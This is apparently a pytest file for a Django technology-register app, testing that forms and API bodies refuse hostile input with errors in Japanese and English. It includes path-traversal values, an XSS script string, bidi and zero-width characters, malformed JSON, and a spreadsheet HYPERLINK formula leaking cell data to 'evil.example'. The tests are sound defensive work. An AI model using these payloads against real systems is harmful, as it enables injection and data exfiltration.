"""Hostile text for the technology capability's forms and API bodies: lying characters, overlong
values, oversized and malformed bodies. Each is refused with the field named in ja and en,
within the budget, and nothing is written."""

from __future__ import annotations

import json
from typing import Any

import pytest
from django.urls import reverse

from econsec.i18n import LANGUAGES
from econsec.technology import models as m
from econsec.technology.countries import add
from econsec.technology.errors import TechnologyError
from econsec.technology.service import grant
from tests.hostile.budget import measured

RLO, NUL, ZWSP = "\u202e", "\x00", "\u200b"


@pytest.mark.parametrize(
    ("fields", "must_name"),
    [
        ({"reason_ja": f"理由{RLO}txt"}, ["reason_ja", "U+202E"]),
        ({"reason_en": f"a{NUL}b"}, ["reason_en", "U+0000"]),
        ({"reason_en": "x", "source": f"s{ZWSP}"}, ["source", "U+200B"]),
        ({"reason_en": "x" * 2001}, ["reason_en", "2000"]),
        ({"reason_en": "x", "source": "s" * 501}, ["source", "500"]),
    ],
)
def test_country_reasons(db: None, fields: dict[str, str], must_name: list[str]) -> None:
    with measured() as spent, pytest.raises(TechnologyError) as refused:
        add("RU", actor="h", **fields)
    spent.check()
    for lang in LANGUAGES:
        text = refused.value.message(lang)
        assert all(part in text for part in must_name), (lang, text)
    assert not m.ConcernCountry.objects.exists()


@pytest.fixture
def editor(db: Any, users: Any, client_for: Any) -> Any:
    grant("analyst", allow=True)
    return client_for("analyst")


def _post(client: Any, name: str, body: bytes | str, **kwargs: Any) -> Any:
    return client.post(reverse(f"api:{name}", kwargs=kwargs or None), body,
                       content_type="application/json")  # fmt: skip


@pytest.mark.parametrize(
    ("name", "body", "must_name"),
    [
        # NUL is refused by the shell for every body, before the view (naming U+0000).
        ("technology_create", {"tech_id": f"T{NUL}1", "name_ja": "a", "name_en": "a",
                               "kind": "data"}, "U+0000"),
        ("technology_create", {"tech_id": "../../etc", "name_ja": "a", "name_en": "a",
                               "kind": "data"}, "tech_id"),
        ("technology_create", {"tech_id": "T-1", "name_ja": f"a{RLO}b", "name_en": "a",
                               "kind": "data"}, "U+202E"),
        ("technology_create", {"tech_id": "T-1", "name_ja": "a" * 301, "name_en": "a",
                               "kind": "data"}, "name_ja"),
        ("technology_create", {"tech_id": "T-1", "name_ja": "a", "name_en": "a", "kind": "data",
                               "items": [f"P{ZWSP}1"]}, "items"),
        ("technology_create", {"tech_id": "T-1", "name_ja": "a", "name_en": "a", "kind": "data",
                               "catch_up_years": 1e308}, "catch_up_years"),
        ("technology_incident_create", {"code": f"INC{ZWSP}1", "title": "x"}, "U+200B"),
        ("technology_incident_create", {"code": "INC-1", "title": "x" * 301}, "title"),
    ],
)  # fmt: skip
def test_api_bodies(editor: Any, name: str, body: dict[str, Any], must_name: str) -> None:
    with measured() as spent:
        answer = _post(editor, name, json.dumps(body))
    spent.check()
    assert answer.status_code == 400 and must_name in answer.json()["detail"], answer.content
    assert not m.Technology.objects.exists() and not m.Incident.objects.exists()


@pytest.mark.parametrize(
    "body",
    [
        "[" * 100_000 + "]" * 100_000,  # nesting past the parser's recursion
        '{"tech_id": "T-1", "name_ja": "a", "name_en": "a", "kind": "data", "market": NaN}',
        "\udcff\udcfe not json",  # bytes FF FE (surrogate escapes): not UTF-8
        "",
    ],
)
def test_malformed_bodies(editor: Any, body: str) -> None:
    with measured() as spent:
        answer = _post(editor, "technology_create", body.encode("utf-8", "surrogateescape"))
    spent.check()
    assert answer.status_code == 400
    assert not m.Technology.objects.exists()


def test_oversized_body_is_refused_before_it_is_read(editor: Any, settings: Any) -> None:
    settings.ECONSEC_MAX_REQUEST_BYTES = 4096
    body = json.dumps({"tech_id": "T-1", "name_ja": "a", "name_en": "a", "kind": "data",
                       "description": "x" * 20_000})  # fmt: skip
    with measured() as spent:
        answer = _post(editor, "technology_create", body)
    spent.check()
    assert answer.status_code == 413 and not m.Technology.objects.exists()


# ------------------------------------------------------- a technology's facts (page forms)


@pytest.fixture
def register(editor: Any) -> Any:
    from econsec.technology.demo import create_demo_register
    from tests.technology.chain import demo_chain_rows

    demo_chain_rows()
    create_demo_register()
    return editor


def _fact(kind: str, action: str = "add", fact_id: int | None = None) -> str:
    args: list[Any] = ["T-SERVO-ENC", kind] + ([fact_id] if fact_id is not None else [])
    return reverse(f"web:technology_fact_{action}", args=args)


def _facts() -> tuple[int, int, int, int]:
    return (m.Holding.objects.count(), m.AccessGroup.objects.count(),
            m.PartnerAccess.objects.count(), m.Control.objects.count())  # fmt: skip


@pytest.mark.parametrize(
    ("kind", "form", "must_name"),
    [
        ("holding", {"kind": "system", "label": f"Git{RLO}piz.exe"}, ["label", "U+202E"]),
        ("holding", {"kind": "site", "site_id": f"TOHO{ZWSP}-AZM"}, ["site_id", "U+200B"]),
        ("holding", {"kind": "site", "site_id": "../../etc/passwd"}, ["site_id", "../../etc"]),
        ("holding", {"kind": "document", "label": "x" * 100_000}, ["label", "300"]),
        ("access", {"name": "a", "headcount": "1e400"}, ["headcount"]),
        ("access", {"name": "a", "headcount": "nan"}, ["headcount", "nan"]),
        ("access", {"name": "a", "headcount": "99999999999999999999"}, ["headcount"]),
        ("access", {"name": "a", "headcount": "1", "people": f"山田{ZWSP}"}, ["people", "U+200B"]),
        ("partner", {"org_id": "XICI\u200d", "role": "licensee"}, ["org_id", "U+200D"]),
        ("partner", {"org_id": "XICI", "role": "licensee", "notes": "n" * 10_001},
         ["notes", "10000"]),
        ("partner", {"org_id": "XICI", "role": "<script>alert(1)</script>"}, ["role"]),
        ("control", {"route_id": "../psia.cyber", "status": "in_place"}, ["route_id"]),
        ("control", {"route_id": "psia.cyber", "status": "in_place", "evidence": f"e{RLO}"},
         ["evidence", "U+202E"]),
    ],
)  # fmt: skip
def test_fact_forms(register: Any, kind: str, form: dict[str, str], must_name: list[str]) -> None:
    before = _facts()
    for lang in LANGUAGES:
        with measured() as spent:
            answer = register.post(_fact(kind), form, HTTP_ACCEPT_LANGUAGE=lang)
        spent.check()
        assert answer.status_code == 400
        page = answer.content.decode()
        assert all(part in page for part in must_name), (lang, must_name)
        assert "<script>alert(1)</script>" not in page
    assert _facts() == before


def test_fact_form_nul_is_refused_by_the_shell(register: Any) -> None:
    before = _facts()
    answer = register.post(_fact("access"), {"name": f"a{NUL}b", "headcount": "1"})
    assert answer.status_code == 400 and _facts() == before


def test_fact_form_formula_is_kept_as_text_and_exported_inert(register: Any, tmp_path: Any) -> None:
    from openpyxl import load_workbook

    from econsec.technology.workbook import export

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    answer = register.post(_fact("access"), {"name": formula, "headcount": "3"})
    assert answer.status_code == 303
    assert m.AccessGroup.objects.filter(name=formula).exists()
    path = tmp_path / "out.xlsx"
    export(path, "en")
    cells = [c.value for row in load_workbook(path)["access"].iter_rows() for c in row]
    assert formula not in cells and f"'{formula}" in cells


def test_fact_ids_past_64_bits_are_404(register: Any) -> None:
    for action in ("change", "remove"):
        answer = register.post(_fact("access", action, 2**64), {"name": "a", "headcount": "1"})
        assert answer.status_code == 404


@pytest.mark.parametrize(
    ("kind", "form", "must_name"),
    [
        ("market_share", {"item_id": "P-INV800", "year": "32768", "share": "0.1", "source": "s"},
         ["year", "1900"]),
        ("market_share", {"item_id": "P-INV800", "year": "2025", "share": "1e309", "source": "s"},
         ["share"]),
        ("market_share", {"item_id": "P-INV800", "year": "2025", "share": "0.1",
                          "source": "s" * 501}, ["source", "500"]),
        ("market_share", {"item_id": f"P-INV800{ZWSP}", "year": "2025", "share": "0.1",
                          "source": "s"}, ["item_id", "U+200B"]),
        ("customer", {"item_id": "P-INV800", "customer": f"YAMATO{RLO}"},
         ["customer", "U+202E"]),
        ("customer", {"item_id": "P-INV800", "customer": "YAMATO", "switch_months": "1e999"},
         ["switch_months"]),
        ("customer", {"item_id": "P-INV800", "customer": "YAMATO",
                      "share_of_supply": "-0.0001"}, ["share_of_supply"]),
    ],
)  # fmt: skip
def test_item_fact_forms(register: Any, kind: str, form: dict[str, str],
                         must_name: list[str]) -> None:  # fmt: skip
    url = reverse("web:technology_item_fact_add", args=[kind])
    before = (m.MarketShare.objects.count(), m.CustomerTie.objects.count())
    for lang in LANGUAGES:
        with measured() as spent:
            answer = register.post(url, form, HTTP_ACCEPT_LANGUAGE=lang)
        spent.check()
        assert answer.status_code == 400
        page = answer.content.decode()
        assert all(part in page for part in must_name), (lang, must_name)
    assert (m.MarketShare.objects.count(), m.CustomerTie.objects.count()) == before


@pytest.mark.parametrize(
    "body",
    [
        '{"name": "a\\u0000b", "headcount": 1}',  # NUL: refused by the shell
        "[" * 100_000 + "]" * 100_000,  # nesting past the parser's recursion
        '{"name": "a", "headcount": 1e400}',  # infinity after parsing
        '{"name": "a", "headcount": 123456789012345678901234567890}',
        '{"name": "a", "headcount": NaN}',
        '{"name": "a", "headcount": 1, "name": "' + "x" * 301 + '"}',  # the last key wins
        '{"name": "a", "headcount": {"$gt": 0}}',
        "\udcff\udcfe not json",  # bytes FF FE (surrogate escapes): not UTF-8
    ],
)
def test_fact_api_bodies(register: Any, body: str) -> None:
    url = reverse("api:technology_fact_add", args=["T-SERVO-ENC", "access"])
    before = _facts()
    with measured() as spent:
        answer = register.post(url, body.encode("utf-8", "surrogateescape"),
                               content_type="application/json")  # fmt: skip
    spent.check()
    assert answer.status_code == 400, answer.content
    assert _facts() == before
